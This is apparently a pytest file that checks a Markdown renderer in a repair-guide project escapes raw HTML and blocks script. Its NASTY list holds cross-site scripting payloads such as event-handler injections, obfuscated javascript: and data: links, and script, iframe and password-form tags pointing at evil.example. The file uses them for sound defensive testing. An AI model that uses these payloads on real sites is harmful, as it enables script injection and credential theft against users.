"""The one Markdown renderer lets no script through: raw HTML shows as text, no event handler, no javascript: or
data: link, no style, no image from elsewhere; what Markdown is for still works."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from repairlab.guides.markdown import ALLOWED_TAGS, render

NASTY = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">clic</a>',
    "[clic](javascript:alert(1))",
    "[clic](JaVaScRiPt:alert(1))",
    "[clic](  javascript:alert(1))",
    "[clic](&#106;avascript:alert(1))",
    "[clic](java\tscript:alert(1))",
    "[clic](vbscript:msgbox(1))",
    "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![photo](javascript:alert(1))",
    '![x](https://evil.example/track.png "t")',
    "<iframe src=https://evil.example></iframe>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{display:none}</style>",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    "<!-- <script>alert(1)</script> -->",
    "```\n<script>alert(1)</script>\n```",
    "<form action=https://evil.example><input name=password></form>",
    "<details open ontoggle=alert(1)>",
]


class _Tags(HTMLParser):
    """The tags and attributes a browser would build from the HTML (escaped text is only text)."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def _tags(html: str) -> list[tuple[str, dict]]:
    parser = _Tags()
    parser.feed(html)
    return parser.tags


@pytest.mark.parametrize("text", NASTY)
def test_nothing_runs(text):
    html = str(render(text))
    for tag, attrs in _tags(html):
        assert tag in ALLOWED_TAGS, html
        assert not any(name.startswith("on") for name in attrs), html  # no event handler
        assert "style" not in attrs and "src" not in attrs, html
        if "href" in attrs:
            assert attrs["href"].startswith(("https://", "http://", "mailto:")), html
    assert "<script" not in html.lower()


def test_raw_html_shows_as_text():
    assert str(render("<b>gras</b>")) == "<p>&lt;b&gt;gras&lt;/b&gt;</p>\n"


def test_markdown_still_works():
    html = str(render("# Ouvrir\n\n**Débranchez** puis *attendez*.\n\n- un\n- deux\n\n[Notice](https://example.org/n)"))
    assert "<h3>Ouvrir</h3>" in html  # below the page's own headings
    assert "<strong>Débranchez</strong>" in html and "<em>attendez</em>" in html
    assert "<ul>" in html and "<li>un</li>" in html
    assert '<a href="https://example.org/n" rel="noopener noreferrer nofollow ugc">Notice</a>' in html


def test_an_image_shows_as_its_description():
    assert str(render("![le <b>thermostat</b>](https://example.org/t.png)")) == (
        "<p>le &lt;b&gt;thermostat&lt;/b&gt;</p>\n"
    )


def test_nothing_for_empty_text():
    assert str(render("")) == "" and str(render(None)) == "" and str(render("  \n")) == ""
